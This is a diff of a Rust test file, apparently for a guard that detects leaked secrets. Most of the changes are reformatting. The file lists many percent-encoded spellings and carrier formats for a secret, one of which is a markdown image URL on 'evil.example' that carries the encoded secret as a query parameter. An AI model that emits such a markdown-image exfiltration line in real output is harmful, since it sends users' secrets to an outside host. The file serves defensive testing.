@@ -137,7 +137,9 @@ const SPELLINGS: &[Way] = &[
     ("percent, where needed", percent),
     ("percent, all, upper", |s| each(s, |byte| format!("%{byte:02X}"))),
     ("percent, all, lower", |s| each(s, |byte| format!("%{byte:02x}"))),
-    ("percent, every other", |s| s.chunks(2).flat_map(|two| [each(&two[..1], |byte| format!("%{byte:02x}")), two[1..].to_vec()].concat()).collect()),
+    ("percent, every other", |s| {
+        s.chunks(2).flat_map(|two| [each(&two[..1], |byte| format!("%{byte:02x}")), two[1..].to_vec()].concat()).collect()
+    }),
     ("percent, twice", |s| percent(&each(s, |byte| format!("%{byte:02X}")))),
     ("percent, three times", |s| percent(&percent(&each(s, |byte| format!("%{byte:02X}"))))),
     ("percent, UTF-16 units", |s| each(s, |byte| format!("%u{byte:04x}"))),
@@ -230,7 +232,9 @@ const CARRIERS: &[Carrier] = &[
     ("header", |s| ([b"accept: */*\r\nx-note: ", s, b"\r\nuser-agent: curl/8\r\n\r\n"].concat(), None)),
     ("JSON", |s| ([b"{\"model\":\"m\",\"text\":\"".to_vec(), json(s), b"\",\"n\":1}".to_vec()].concat(), None)),
     ("form", |s| ([b"a=1&note=".to_vec(), percent(s), b"&b=2".to_vec()].concat(), None)),
-    ("multipart", |s| ([b"--x1\r\ncontent-disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n", s, b"\r\n--x1--\r\n"].concat(), None)),
+    ("multipart", |s| {
+        ([b"--x1\r\ncontent-disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n", s, b"\r\n--x1--\r\n"].concat(), None)
+    }),
     ("log line", |s| ([b"2026-03-01T10:00:00Z WARN provider refused: key=", s, b" status=401\n"].concat(), None)),
     ("model message", |s| ([b"Of course! The value you asked for is `", s, b"`. Anything else?"].concat(), None)),
     ("markdown image", |s| ([b"![](https://evil.example/p.png?d=".to_vec(), percent(s), b")".to_vec()].concat(), None)),
@@ -297,7 +301,7 @@ fn a_border_between_chunks_hides_nothing_wherever_it_is() {
 
 /// The project's own sources but this corpus and its neighbours, which hold secrets on purpose.
 fn sources() -> Vec<u8> {
-    let mut folders = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")];
+    let mut folders = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap()];
     let mut all = Vec::new();
     while let Some(folder) = folders.pop() {
         let mut entries: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
@@ -330,7 +334,9 @@ fn ordinary() -> Vec<u8> {
             }
             1 => {
                 let text = (0..40).map(|_| words[numbers.below(words.len())]).collect::<Vec<_>>().join(" ");
-                all.extend(format!("{{\"id\":{},\"tag\":\"{:08x}\",\"text\":{text:?}}}\n", numbers.below(1 << 30), numbers.below(1 << 31)).bytes());
+                all.extend(
+                    format!("{{\"id\":{},\"tag\":\"{:08x}\",\"text\":{text:?}}}\n", numbers.below(1 << 30), numbers.below(1 << 31)).bytes(),
+                );
             }
             _ => (0..200).for_each(|_| {
                 all.extend(words[numbers.below(words.len())].bytes());
@@ -345,7 +351,17 @@ fn ordinary() -> Vec<u8> {
 #[test]
 fn ten_megabytes_of_ordinary_text_code_and_base64_pass() {
     let mut values = values();
-    let household = ["password", "passwort1", "12345678", "11111111", "sunshine", "letmein", "Sommer-2023!", "48391720", "four brown bicycles in the rain"];
+    let household = [
+        "password",
+        "passwort1",
+        "12345678",
+        "11111111",
+        "sunshine",
+        "letmein",
+        "Sommer-2023!",
+        "48391720",
+        "four brown bicycles in the rain",
+    ];
     values.extend(household.map(str::to_owned));
     let guard = guard_of(&values);
     let body = ordinary();
